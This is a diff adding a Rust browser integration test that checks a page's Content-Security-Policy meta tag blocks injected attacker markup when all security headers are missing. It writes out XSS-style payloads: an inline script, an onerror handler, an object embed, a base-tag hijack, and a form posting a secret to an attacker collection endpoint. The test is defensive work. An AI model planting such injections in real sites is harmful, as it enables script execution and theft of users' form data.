@@ -1,0 +1,78 @@
+//! A page at top level whose every security header got lost on the way, with markup of an attacker
+//! in it: the policy in the page's own meta tag must still bite. The control is the same page
+//! without that tag, where each piece acts.
+
+use std::time::Duration;
+
+use super::condition::Condition;
+use super::driver::Session;
+use super::world::{Site, World};
+
+/// What an injection did.
+#[derive(Debug, PartialEq, Eq)]
+struct Acted {
+    script: bool,
+    handler: bool,
+    plugin: bool,
+    base: bool,
+    form: bool,
+}
+
+const ALL: Acted = Acted { script: true, handler: true, plugin: true, base: true, form: true };
+const NONE: Acted = Acted { script: false, handler: false, plugin: false, base: false, form: false };
+
+async fn inject(world: &World, session: &Session, without_meta: bool) -> Acted {
+    let evil = |path: &str| world.attacker(Site::Cross, path);
+    let viewport = r#"<meta name="viewport""#;
+    let base = format!(r#"<base href="{}">{viewport}"#, evil("/base/"));
+    let markup = format!(
+        r#"<script>document.documentElement.dataset.script = "ran"</script>
+           <img src="data:," alt="" onerror="document.documentElement.dataset.handler = 'ran'">
+           <object data="{}" type="text/html" width="300" height="60"></object>
+           <a id="relative" href="relative">relative</a>
+           <form action="{}" method="post"><input name="secret" value="x"><button id="foreign">Go on</button></form></main>"#,
+        evil("/blank"),
+        evil("/collect?form")
+    );
+    let mut edits = vec![(viewport, base), ("</main>", markup)];
+    if without_meta {
+        edits.push((r#"<meta http-equiv="Content-Security-Policy""#, r#"<meta name="none""#.to_owned()));
+    }
+    let edits: Vec<(&str, &str)> = edits.iter().map(|(from, to)| (*from, to.as_str())).collect();
+    world.edit(&edits);
+    world.set(Condition::WithoutAny);
+    world.forget();
+    session.goto(&world.victim("/sign-in")).await;
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let state = session
+        .run(
+            "const object = document.querySelector('object');
+             return {
+                 script: document.documentElement.dataset.script === 'ran',
+                 handler: document.documentElement.dataset.handler === 'ran',
+                 plugin: window.length > 0 && object.contentWindow !== null,
+                 base: new URL(document.getElementById('relative').href).pathname.startsWith('/base/'),
+             };",
+        )
+        .await;
+    let button = session.driver.find(thirtyfour::By::Id("foreign")).await.expect("the button");
+    button.click().await.expect("clicked");
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    let said = |name: &str| state[name].as_bool().expect("a boolean");
+    Acted {
+        script: said("script"),
+        handler: said("handler"),
+        plugin: said("plugin"),
+        base: said("base"),
+        form: world.seen(|seen| seen.stolen.iter().any(|what| what.starts_with("form secret=x"))),
+    }
+}
+
+#[tokio::test]
+async fn the_policy_in_the_page_holds_where_all_headers_are_lost() {
+    let world = World::https().await;
+    let session = Session::open(&world.key).await;
+    assert_eq!(inject(&world, &session, true).await, ALL, "without the meta tag every piece acts");
+    assert_eq!(inject(&world, &session, false).await, NONE, "the meta tag forbids every piece");
+    session.close().await;
+}
